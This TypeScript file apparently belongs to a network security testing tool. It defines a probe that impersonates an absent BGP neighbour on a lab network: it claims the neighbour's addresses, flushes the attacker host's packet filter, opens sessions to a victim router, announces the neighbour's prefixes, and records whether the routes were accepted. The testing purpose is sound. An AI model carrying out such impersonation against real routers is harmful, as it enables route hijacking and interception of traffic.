import { z } from 'zod';

import { InterfaceName, NodeName } from '../model/ids.ts';
import type { Attempt, Evidence, Observation } from '../model/observation.ts';
import { familyOf, type Plan } from '../model/plan.ts';
import type { NodeProcess } from '../runtime/runtime.ts';
import { type Calls, readCalls } from './bgp/calls.ts';
import {
  interfaceWith,
  plannedSessions,
  type PlannedSession,
  readSessions,
  type SessionState,
} from './bgp/sessions.ts';
import { type Capture, pollUntil, startCapture } from './capture.ts';
import { defineProbe, type ProbeContext } from './probe.ts';
import { raiseInterface } from './raise-interface.ts';

const Params = z.strictObject({
  attacker: NodeName.describe('A host on the segment of the victim'),
  interface: InterfaceName.describe('Its interface there; raised for the attack if it is down'),
  victim: NodeName.describe('The router that is lied to'),
  as: NodeName.describe("The neighbour it is taken for: one of the plan's that is not there"),
  waitMs: z
    .number()
    .int()
    .min(200)
    .max(10_000)
    .default(3000)
    .describe('How long the attacker goes on calling and waits to be called, unless both were seen to fail before'),
});
type Params = z.infer<typeof Params>;

/** What the lie came to. */
interface Outcome {
  /** The victim's neighbours by address. */
  readonly states: ReadonlyMap<string, SessionState>;
  /** Prefixes that it took from each of them. */
  readonly taken: ReadonlyMap<string, readonly string[]>;
  /** Addresses that answered the attacker's ARP or neighbour solicitation. */
  readonly reached: readonly string[];
}

/** Takes the address of an absent BGP neighbour, opens its sessions and announces its prefixes. */
export const bgpImpersonate = defineProbe({
  name: 'bgp-impersonate',
  summary: 'Takes the addresses of an absent BGP neighbour, opens sessions in its name and announces its prefixes.',
  params: Params,
  exclusive: true,
  undoMs: 15_000,
  nodes: ({ attacker, victim }) => [attacker, victim],
  observe,
});

async function observe(params: Params, context: ProbeContext): Promise<Observation> {
  const { network, plan, signal } = context;
  const { attacker, interface: iface, victim, as } = params;
  const sessions = plannedSessions(plan, victim, as);
  const addresses = sessions.map(({ remote, prefixLength }) => `${remote}/${prefixLength}`);
  const raised = await raiseInterface(network, attacker, iface, addresses, signal);
  try {
    const at = interfaceWith(
      plan,
      victim,
      sessions.map((it) => it.local),
    );
    const there = await startCapture(network, victim, at, 'tcp port 179', signal);
    try {
      const here = await startCapture(network, attacker, iface, 'tcp port 179 or arp or icmp6', signal);
      try {
        return await impersonate(params, sessions, { attacker: here, victim: there }, context);
      } finally {
        await here.stop();
      }
    } finally {
      await there.stop();
    }
  } finally {
    await raised.stop();
    // The lie leaves the victim's tables when its session does.
    await pollUntil(
      async () => {
        const states = await readSessions(network, victim, AbortSignal.timeout(5000));
        return sessions.every(({ remote }) => states.get(remote)?.state !== 'Established');
      },
      10_000,
      100,
    );
  }
}

interface Captures {
  readonly attacker: Capture;
  readonly victim: Capture;
}

async function impersonate(
  params: Params,
  sessions: readonly PlannedSession[],
  captures: Captures,
  context: ProbeContext,
): Promise<Observation> {
  const { network, plan, signal } = context;
  const { attacker, waitMs } = params;
  const order = speakerOrder(sessions, plan, waitMs);
  const speaker = network
    .node(attacker)
    .spawn(['sh', '-ec', `${takeDownFilter}; exec ${tool} "$0"`, order], { signal, undo: restoreFilter });
  try {
    await speaker.waitFor(/^listening$/, 5000);
    await pollUntil(
      () => sessions.every((it) => hasConcluded(it, speaker) || hasFailedBothWays(callsOf(it, captures))),
      waitMs + patienceMs,
    );
    const said = speaker.stdout().toString('utf8');
    let outcome = await look(params, sessions, context);
    const settled = ({ remote }: PlannedSession): boolean =>
      !said.includes(`announced ${remote} `) || (outcome.taken.get(remote)?.length ?? 0) > 0;
    await pollUntil(
      async () => {
        if (sessions.every(settled)) return true;
        outcome = await look(params, sessions, context);
        return sessions.every(settled);
      },
      3000,
      30,
    );
    const attempts = sessions.flatMap((session) =>
      attemptsOf(session, params, plan, outcome, callsOf(session, captures)),
    );
    const evidence = [
      await captures.attacker.keep(context, `segment-${attacker}`, `What ${attacker} sent and got on the segment`),
      await keepTranscript(said, params, plan, sessions, context),
    ];
    return { attempts, evidence };
  } finally {
    await speaker.stop();
  }
}

const tool = '/usr/lib/breakwater/attacks/speak-bgp';

/** Whoever has broken into a host has nothing to fear from its packet filter, which is put back afterwards. */
const kept = '/run/breakwater-kept.nft';
const takeDownFilter = `nft list ruleset >${kept}.new; mv ${kept}.new ${kept}; nft flush ruleset`;
const restoreFilter = `test ! -e ${kept} || { { echo flush ruleset; cat ${kept}; } | nft -f - && rm ${kept}; }`;

/** A connection that stands may take so long to come to something (`PATIENCE_SECONDS` of the tool, and a little). */
const patienceMs = 10_000;

/** Whether the attacker's speaker has announced its prefixes on a session, or has given up. */
function hasConcluded({ remote }: PlannedSession, speaker: NodeProcess): boolean {
  const said = speaker.stdout().toString('utf8');
  return ['announced', 'silent'].some((word) => said.includes(`${word} ${remote} `));
}

/** The attacker has called and was called, several times each way, and nothing stands. */
function hasFailedBothWays({ arrived, back, pending }: Calls): boolean {
  return arrived >= 3 && back >= 2 && pending === 0;
}

function callsOf({ local, remote }: PlannedSession, { attacker, victim }: Captures): Calls {
  const [here, there] = [attacker, victim].map((it) => it.frames().map(({ bytes }) => bytes));
  return readCalls(here ?? [], there ?? [], { attacker: remote, victim: local });
}

function speakerOrder(sessions: readonly PlannedSession[], plan: Plan, waitMs: number): string {
  return JSON.stringify({
    seconds: waitMs / 1000,
    sessions: sessions.map((session) => ({
      local: session.remote,
      remote: session.local,
      as: session.remoteAs,
      router_id: sessions.find((it) => it.family === 'v4')?.remote ?? '192.0.2.255',
      announce: prefixesOf(session, plan),
    })),
  });
}

/** What the absent neighbour would announce in the family of the session. */
function prefixesOf({ remoteAs, family }: PlannedSession, plan: Plan): string[] {
  return (plan.ases[String(remoteAs)]?.prefixes ?? []).filter((prefix) => familyOf(prefix) === family);
}

async function look(
  { attacker, interface: iface, victim }: Params,
  sessions: readonly PlannedSession[],
  { network, signal }: ProbeContext,
): Promise<Outcome> {
  const taken = async ({ family, remote }: PlannedSession): Promise<readonly [string, readonly string[]]> => {
    const command = `show bgp ${family === 'v4' ? 'ipv4' : 'ipv6'} unicast neighbors ${remote} routes json`;
    const { stdout } = await network.node(victim).exec(['vtysh', '-c', command], { signal });
    return [remote, parseRoutesOfNeighbour(stdout)];
  };
  const [states, neighbours, ...routes] = await Promise.all([
    readSessions(network, victim, signal),
    network.node(attacker).exec(['ip', '-j', 'neigh', 'show', 'dev', iface], { signal }),
    ...sessions.map(taken),
  ]);
  return { states, taken: new Map(routes), reached: parseReached(neighbours.stdout) };
}

/** Prefixes in the JSON of `show bgp … neighbors X routes json`; a neighbour without a session has none. */
export function parseRoutesOfNeighbour(text: string): string[] {
  const Table = z.looseObject({ routes: z.record(z.string(), z.unknown()).default({}) });
  return text.trim().startsWith('{') ? Object.keys(Table.parse(JSON.parse(text)).routes) : [];
}

/** Addresses with a link address in the JSON of `ip -j neigh show`. */
export function parseReached(text: string): string[] {
  const Table = z.array(z.looseObject({ dst: z.string(), lladdr: z.string().optional() }));
  return Table.parse(text.trim() === '' ? [] : JSON.parse(text)).flatMap((it) =>
    it.lladdr === undefined ? [] : [it.dst],
  );
}

/** Silence proves something where the victim got several calls and let none of them stand. */
function proofOf({ arrived, open, refused }: Calls): Pick<Attempt, 'proof'> {
  if (refused && open === 0) return { proof: 'answered' };
  return arrived >= 2 && open === 0 ? { proof: 'counted' } : {};
}

function attemptsOf(session: PlannedSession, params: Params, plan: Plan, outcome: Outcome, calls: Calls): Attempt[] {
  const { attacker, interface: iface, victim, as } = params;
  const { family, local, remote } = session;
  const state = outcome.states.get(remote)?.state ?? 'not configured';
  const taken = outcome.taken.get(remote) ?? [];
  const reached = outcome.reached.includes(local);
  const base = { family, from: attacker, to: victim };
  return [
    {
      ...base,
      label: `a session in the name of ${as} from ${remote}`,
      role: 'try',
      sent: calls.sent > 0,
      succeeded: state === 'Established' || taken.length > 0,
      ...proofOf(calls),
      seen:
        `${victim} got ${calls.arrived} of ${calls.sent} calls from ${remote}, called ${calls.back} times itself, and has the session ${state}` +
        (taken.length > 0 ? ` and took ${taken.join(', ')}` : ''),
      repeat: repeatOf(params, plan),
    },
    {
      ...base,
      label: `${victim} answers on the segment`,
      role: 'canary',
      sent: true,
      succeeded: reached,
      seen: reached
        ? `${local} answered with its link address`
        : `nobody answered for ${local} on ${iface} of ${attacker}`,
      repeat: `breakwater exec ${attacker} -- ip neigh show dev ${iface}`,
    },
  ];
}

function repeatOf({ attacker, interface: iface, victim, as, waitMs }: Params, plan: Plan): string {
  const sessions = plannedSessions(plan, victim, as);
  const raise = sessions
    .map(({ remote, prefixLength }) => `ip addr add ${remote}/${prefixLength} dev ${iface}`)
    .join(' && ');
  return `breakwater exec ${attacker} -- sh -c 'ip link set ${iface} up && ${raise} && ${tool} "$0"' '${speakerOrder(sessions, plan, waitMs)}'`;
}

async function keepTranscript(
  said: string,
  params: Params,
  plan: Plan,
  sessions: readonly PlannedSession[],
  { keep, network, signal }: ProbeContext,
): Promise<Evidence> {
  const { victim, attacker } = params;
  const summary = await network.node(victim).exec(['vtysh', '-c', 'show bgp summary'], { signal });
  const lines = summary.stdout
    .split('\n')
    .filter((line) => sessions.some(({ remote }) => line.startsWith(`${remote} `)));
  const excerpt = [`${attacker}:`, said.trimEnd() || '(nothing)', `${victim}, show bgp summary:`, ...lines].join('\n');
  const file = await keep('impersonation.txt', `${excerpt}\n`);
  return {
    kind: 'transcript',
    title: `What ${attacker} achieved, and what ${victim} has`,
    file,
    command: repeatOf(params, plan),
    excerpt,
  };
}
